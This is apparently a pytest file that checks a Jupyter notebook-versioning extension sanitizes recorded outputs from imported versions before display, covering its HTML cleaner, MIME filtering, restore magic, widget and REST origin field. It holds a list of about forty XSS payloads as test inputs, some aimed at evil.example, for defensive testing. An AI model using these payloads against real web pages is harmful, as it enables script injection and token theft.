"""Recorded outputs are untrusted content (issue 10, part 1), below the browser: the kernel-side
sanitizer against many hostile variants, `%mv_restore REF --outputs` of an imported version in a real
IPython shell, the widget's payload and module, and the REST `origin` field. The browser tests
(tests/browser/test_untrusted_outputs_browser.py) open every surface in JupyterLab."""

from __future__ import annotations

from pathlib import Path

import json
import re

import pytest
from IPython.utils.capture import capture_output

import hostile_outputs as H
from jupyter_mv import api, sanitize

pytest_plugins = ["pytest_jupyter.jupyter_server"]

FORBIDDEN_TAGS = {"script", "iframe", "object", "embed", "svg", "math", "style", "form", "input", "button",
                  "base", "meta", "link", "template", "frame", "frameset", "applet"}
URL_SIGNS = re.compile(r"^\s*(javascript|vbscript|data:(?!image/(png|jpeg|gif|webp|svg\+xml)[;,]))", re.I)


def assert_inert(html: str) -> None:
    """Parse the cleaned HTML as a browser would and fail on anything that can run script or restyle
    the page: forbidden elements, on* handlers, srcdoc, script/data URLs, positioning styles."""
    from html.parser import HTMLParser

    problems = []

    class Check(HTMLParser):
        def handle_starttag(self, tag, attrs):
            if tag in FORBIDDEN_TAGS:
                problems.append(f"<{tag}>")
            for k, v in attrs:
                v = v or ""
                if k.startswith("on") or k in ("srcdoc", "formaction", "action"):
                    problems.append(f"{tag} {k}=")
                if k in ("href", "src", "xlink:href", "action", "background", "poster") and URL_SIGNS.match(v):
                    problems.append(f"{tag} {k}={v[:30]}")
                if k == "style" and re.search(r"position|url\(|expression|behavior", v, re.I):
                    problems.append(f"{tag} style={v}")

    Check(convert_charrefs=True).feed(html)
    assert not problems, f"left in the cleaned HTML: {problems}: {html!r}"


# -- clean_html: hostile variants ----------------------------------------------------------------
HOSTILE_HTML = [
    '<img src=x onerror="alert(1)">',
    "<IMG SRC=x ONERROR=alert(1)>",
    "<ImG sRc=x OnErRoR=alert(1)>",
    "<img src=x onerror=alert(1)//",  # unterminated
    "<SCRIPT>alert(1)</SCRIPT>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</script>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:text/html,<script>alert(1)</script>">',
    '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
    '<svg><set attributeName=onmouseover to=alert(1)></svg>',
    '<svg onload=alert(1)><circle r=5 /></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<details open ontoggle=alert(1)>x</details>',
    '<body onload=alert(1)>',
    '<form action="https://evil.example"><input name=token><button>go</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    "<style>body{display:none}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%">cover</div>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="behavior:url(x.htc)">x</div>',
    '<div style="width: expression(alert(1))">x</div>',
    "<!--<img src=x onerror=alert(1)>-->",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    '<template><img src=x onerror=alert(1)></template>',
    '<img src="x" onerror\n=alert(1)>',
    '<div onclick="alert(1)" onmouseover="alert(1)">x</div>',
    '<input autofocus onfocus=alert(1)>',
    '<video><source onerror=alert(1)></video>',
    '<a href="#" id="__proto__" name="location">x</a>',
]


@pytest.mark.parametrize("html", HOSTILE_HTML)
def test_clean_html_leaves_nothing_that_runs(html):
    assert_inert(sanitize.clean_html(html))


def test_clean_html_keeps_a_dataframe_table():
    out = sanitize.clean_html(H.dataframe_html())
    assert "<table" in out and "<thead>" in out and "<tbody>" in out and "<th>" in out
    assert H.BENIGN_CELL_TEXT in out and "alpha" in out and "beta" in out
    assert "<style" not in out  # the scoped <style> goes, the table stays


def test_clean_html_keeps_benign_markup_and_safe_styles():
    html = ('<p><b>bold</b> <i>it</i> <code>x</code></p><a href="https://example.org/a?b=1">link</a>'
            '<img src="data:image/png;base64,iVBORw0KGgo=" width="10">'
            '<span style="color: red; position: absolute; font-weight: bold">s</span>')
    out = sanitize.clean_html(html)
    assert "<b>bold</b>" in out and "<code>x</code>" in out
    assert 'href="https://example.org/a?b=1"' in out and "noopener" in out
    assert 'src="data:image/png;base64,iVBORw0KGgo="' in out
    assert "color:red" in out.replace(" ", "") and "font-weight:bold" in out.replace(" ", "")
    assert "position" not in out


def test_only_image_data_urls_survive_and_only_on_img():
    assert "data:" not in sanitize.clean_html('<img src="data:text/html,<script>alert(1)</script>">')
    assert "data:" not in sanitize.clean_html('<a href="data:image/png;base64,AAAA">x</a>')
    assert "data:image/svg+xml" in sanitize.clean_html('<img src="data:image/svg+xml;base64,PHN2Zy8+">')


def test_markdown_is_rendered_and_cleaned():
    md = ("# Title\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n**bold** and [ok](https://example.org)\n\n"
          "[bad](javascript:alert(1)) <img src=x onerror=alert(1)>\n\n<script>alert(1)</script>\n")
    out = sanitize.markdown_html(md)
    assert "<h1>Title</h1>" in out and "<table>" in out and "<strong>bold</strong>" in out
    assert 'href="https://example.org"' in out
    assert_inert(out)


def test_svg_becomes_an_image_whose_script_cannot_run():
    out = sanitize.svg_img(H.SVG_ONLOAD)
    m = re.fullmatch(r'<img src="data:image/svg\+xml;base64,([A-Za-z0-9+/=]+)" alt="SVG image" style="max-width:100%">',
                     out)
    assert m, out
    import base64

    assert base64.b64decode(m.group(1)).decode() == H.SVG_ONLOAD  # the drawing itself is unchanged


# -- safe_bundle ---------------------------------------------------------------------------------
EXECUTABLE = ["application/javascript", "text/javascript", "application/x-javascript", "application/ecmascript",
              "application/vnd.jupyter.widget-view+json", "application/vnd.bokehjs_exec.v0+json",
              "application/vnd.bokehjs_load.v0+json", "application/vnd.holoviews_exec.v0+json",
              "application/vnd.vegalite.v5+json", "application/x-unknown-vendor"]


@pytest.mark.parametrize("mime", EXECUTABLE)
def test_executable_or_unknown_mime_types_are_withheld_and_named(mime):
    data, md, withheld = sanitize.safe_bundle({mime: "alert(1)", "text/plain": "<obj>"}, {mime: {"x": 1}})
    assert data == {"text/plain": "<obj>"} and md == {} and withheld == [mime]
    data, _, _ = sanitize.safe_bundle({mime: "alert(1)"})
    assert list(data) == ["text/plain"] and mime in data["text/plain"] and "withheld" in data["text/plain"]


def test_safe_bundle_of_every_hostile_output():
    for src, outputs in H.hostile_cells():
        for o in outputs:
            safe, withheld = sanitize.safe_output(o)
            data = safe["data"]
            assert set(data) <= {"text/plain", "text/html", "image/png", "application/json"}, (src, data.keys())
            for mime, value in data.items():
                if mime == "text/html" and "svg" not in src:
                    assert_inert(value)
            if src == "show_js()":
                assert withheld == ["application/javascript"]
            assert o["data"] != data or src in ("df", "plot_png()")  # a copy; the recorded data stays


def test_benign_rich_outputs_keep_rendering():
    df = {"text/plain": "df", "text/html": H.dataframe_html()}
    data, _, withheld = sanitize.safe_bundle(df)
    assert "<table" in data["text/html"] and H.BENIGN_CELL_TEXT in data["text/html"] and not withheld
    png = H.png()
    data, md, _ = sanitize.safe_bundle({"image/png": png, "text/plain": "<Figure>"}, {"image/png": {"width": 6}})
    assert data["image/png"] == png and md == {"image/png": {"width": 6}}
    data, _, _ = sanitize.safe_bundle({"image/svg+xml": H.BENIGN_SVG, "text/plain": "<Figure>"})
    assert data["text/html"].startswith('<img src="data:image/svg+xml;base64,')
    data, _, _ = sanitize.safe_bundle({"text/markdown": "## Result\n\n*fine*", "text/plain": "md"})
    assert "<h2>Result</h2>" in data["text/html"] and "<em>fine</em>" in data["text/html"]
    assert "text/markdown" not in data  # a trusted frontend would render raw Markdown unsanitized
    data, _, _ = sanitize.safe_bundle({"application/json": {"a": [1, 2]}, "text/plain": "{}"})
    assert data["application/json"] == {"a": [1, 2]}
    data, _, _ = sanitize.safe_bundle({"text/plain": ["line 1\n", "line 2"]})
    assert data == {"text/plain": "line 1\nline 2"}


def test_stream_and_error_outputs_pass_unchanged():
    for o in ({"output_type": "stream", "name": "stdout", "text": "<script>x</script>"},
              {"output_type": "error", "ename": "E", "evalue": "v", "traceback": ["tb"]}):
        assert sanitize.safe_output(o) == (o, [])


# -- %mv_restore REF --outputs in a real IPython shell --------------------------------------------
def _import_hostile(shell, tmp_path):
    bundles = H.make_bundles(tmp_path / "sender")
    shell.run_line_magic("mv_import", str(bundles[0]))
    shell.run_line_magic("mv_import", str(bundles[1]))
    api.set_notebook(H.NOTEBOOK)
    return bundles


def test_mv_restore_outputs_of_an_imported_version_publishes_only_inert_data(shell, tmp_path, capsys):
    _import_hostile(shell, tmp_path)
    assert [v.origin for v in api.versions()] == ["imported", "imported"]
    capsys.readouterr()
    with capture_output() as io:
        shell.run_line_magic("mv_restore", "v2 --outputs")
    published = [o.data for o in io.outputs]
    assert len(published) == len(H.hostile_cells())
    for data in published:
        assert set(data) <= {"text/plain", "text/html", "image/png", "application/json"}, data.keys()
    htmls = [d["text/html"] for d in published if "text/html" in d]
    for h in htmls:
        if not h.startswith('<img src="data:image/svg+xml;base64,'):
            assert_inert(h)
    assert any("<table" in h and H.BENIGN_CELL_TEXT in h for h in htmls)  # the DataFrame
    assert any("<h1>Hostile markdown</h1>" in h for h in htmls)  # Markdown, rendered
    assert sum(h.startswith('<img src="data:image/svg+xml;base64,') for h in htmls) == 2  # both SVGs
    assert any(d.get("image/png") == H.png() for d in published)
    assert published[2] == {"text/plain": "<display>"}  # the application/javascript output, withheld
    assert "application/javascript" in io.stderr and "sanitized" in io.stderr
    assert "jupyter_mv: v2 (imported) was not made in this store" in io.stderr  # the version, not a cell's prompt
    # what was stored is untouched: a version holds exactly its moment's state
    assert api.outputs("v2")[2].outputs[0]["data"]["application/javascript"] == H.JAVASCRIPT


def test_mv_restore_outputs_of_a_local_version_republishes_it_as_recorded(shell, capsys):
    """The user's own outputs (made by their kernel, as Jupyter trusts them) come back unchanged."""
    shell.run_cell("from IPython.display import HTML, Javascript, display\n"
                   "display(HTML('<b onclick=\"f()\">mine</b>'))\ndisplay(Javascript('console.log(1)'))",
                   store_history=True)
    shell.run_line_magic("mv_snapshot", "-m local")
    assert api.versions()[-1].origin == "local"
    with capture_output() as io:
        shell.run_line_magic("mv_restore", "latest --outputs")
    datas = [o.data for o in io.outputs]
    assert any(d.get("text/html") == '<b onclick="f()">mine</b>' for d in datas)
    assert any(d.get("application/javascript") == "console.log(1)" for d in datas)
    assert "sanitized" not in io.stderr


# -- the widget ------------------------------------------------------------------------------------
def test_widget_module_carries_dompurify_and_renders_html_through_it():
    """Each widget's bundled module (the rendering layer, esbuild) holds DOMPurify, and the rendering
    layer's only way from recorded HTML/SVG to DOM is through it."""
    from jupyter_mv.widgets import assets

    for name in ("history", "diff"):
        js = assets.module(name)
        assert "@license DOMPurify" in js
        assert js.index("@license DOMPurify") < js.index("function safeHTML")
    render = Path(__file__).resolve().parents[1] / "labextension" / "src" / "render"
    sources = {p.name: p.read_text() for p in render.glob("*.ts")}
    for name, text in sources.items():  # recorded markup never reaches the DOM as markup but through DOMPurify
        assert ".innerHTML" not in text and "insertAdjacentHTML" not in text and "outerHTML" not in text, name
    assert "safeHTML(joinText(d['text/html']))" in sources["sanitize.ts"]


def test_widget_details_send_markdown_rendered_and_never_javascript(shell, tmp_path):
    from jupyter_mv.widgets import HistoryWidget

    _import_hostile(shell, tmp_path)
    w = HistoryWidget()
    v2 = [r for r in w.rows if r["label"] == "v2"][0]
    w.selected = [v2["id"]]
    outs = [o for c in w.details["cells"] for o in c["outputs"]]
    mimes = {m for o in outs for m in o.get("data", {})}
    assert "application/javascript" not in mimes and "text/markdown" not in mimes
    assert any("<h1>Hostile markdown</h1>" in o["data"].get("text/html", "") for o in outs)
    w.act("restore_outputs")
    replay = [o for c in w.replay["cells"] for o in c["outputs"]]
    assert not any("application/javascript" in o.get("data", {}) for o in replay)
    w.close()


# -- REST: each version's origin ---------------------------------------------------------------------
@pytest.fixture
def jp_server_config():
    return {"ServerApp": {"jpserver_extensions": {"jupyter_mv": True}}}


async def test_rest_exposes_each_versions_origin(jp_fetch, jp_root_dir, tmp_path):
    bundles = H.make_bundles(tmp_path / "sender")
    H.import_into(jp_root_dir, bundles[:1])
    st = api.open_store(jp_root_dir / ".jupyter_mv")
    try:
        v = st.commit_version(H.NOTEBOOK, [], message="made here")
    finally:
        st.close()
    assert v.origin == "local"
    r = await jp_fetch("jupyter-mv", "api", "versions", params={"notebook": H.NOTEBOOK})
    vs = json.loads(r.body)["versions"]
    assert [(x["id"], x["origin"]) for x in vs] == [("v1", "imported"), ("v2", "local")]
    r = await jp_fetch("jupyter-mv", "api", "versions", "v1", params={"notebook": H.NOTEBOOK})
    assert json.loads(r.body)["origin"] == "imported"
